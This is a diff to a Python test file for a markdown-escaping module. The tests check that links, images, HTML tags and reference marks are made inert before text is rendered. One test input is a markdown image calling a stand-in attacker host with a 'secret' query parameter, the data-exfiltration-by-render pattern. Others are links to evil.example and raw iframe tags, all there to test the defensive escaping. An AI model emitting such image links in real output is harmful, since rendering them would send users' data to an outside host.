@@ -3,8 +3,9 @@ import re
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
-from query_engine.text.markdown_escape import as_quote, as_text
+from query_engine.text.markdown_escape import as_plain, as_quote, as_text, without_effects
 
 
 @pytest.mark.parametrize(
@@ -29,6 +30,24 @@ from query_engine.text.markdown_escape import as_quote, as_text
 )
 def test_links_images_and_tags_become_text(text: str, shown: str) -> None:
     assert as_text(text) == shown
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("![cat](http://evil.example/?q=secret)", "! [cat] (http://evil.example/?q=secret)"),
+        ("![cat](cat.png)", "! [cat](cat.png)"),
+        ("see [the guide](https://example.org/guide)", "see [the guide] (https://example.org/guide)"),
+        ("[a](//evil.example) [b](&#104;ttp:x) [c](<x>)", "[a] (//evil.example) [b] (&#104;ttp:x) [c] (<x>)"),
+        ("see [copy](/commands/copy/#flags)", "see [copy](/commands/copy/#flags)"),
+        ("[9]: https://evil.example", "[9] : https://evil.example"),
+        ("<IMG src=x> <iframe src=y></iframe>", "< IMG src=x> < iframe src=y>< /iframe>"),
+        ("restart <service name> from https://example.org", "restart <service name> from https://example.org"),
+        ("map<int, a> and a < b", "map<int, a> and a < b"),
+    ],
+)
+def test_a_document_s_text_stays_but_for_what_acts(text: str, shown: str) -> None:
+    assert without_effects(text) == shown
 
 
 PARTS = [
@@ -68,6 +87,7 @@ PARTS += [
 ]
 
 
+@pytest.mark.fault("E8")
 @given(st.lists(st.sampled_from(PARTS), max_size=30).map("".join))
 def test_nothing_that_renderers_act_on_is_left_in_any_text(text: str) -> None:
     assert not re.search(
@@ -78,3 +98,31 @@ def test_nothing_that_renderers_act_on_is_left_in_any_text(text: str) -> None:
 def test_marks_of_references_in_a_quote_are_no_citations() -> None:
     assert as_quote("Wind is cheap [12], as others [2, 5-7] found.") == "Wind is cheap (12), as others (2, 5-7) found."
     assert as_quote("an array[i] stays") == "an array[i] stays"
+    assert as_quote("see [the proof][9] and [1][2]") == "see [the proof] (9) and (1)(2)"
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        "**Bold** and *thin*",
+        "`code` and ~~gone~~",
+        "_under_ wind_power_2 __both__",
+        "a | b",
+        "&lt;b&gt; &#42;",
+        "[1] and \\",
+        "![](x) <b>fat</b>",
+    ],
+)
+def test_a_plain_text_is_shown_as_it_stands(title: str) -> None:
+    (paragraph,) = [
+        token
+        for token in MarkdownIt().enable(["strikethrough", "table"]).parse(f"x {as_plain(title)}")
+        if token.type == "inline"
+    ]
+
+    assert {token.type for token in paragraph.children or ()} <= {"text", "text_special"}
+    assert "".join(token.content for token in paragraph.children or ()) == f"x {as_text(title)}"
+
+
+def test_a_plain_text_keeps_what_acts_nowhere_inside_a_line() -> None:
+    assert as_plain("wind_power_2  (2020) #3 -\n1. x") == "wind_power_2 (2020) #3 - 1. x"
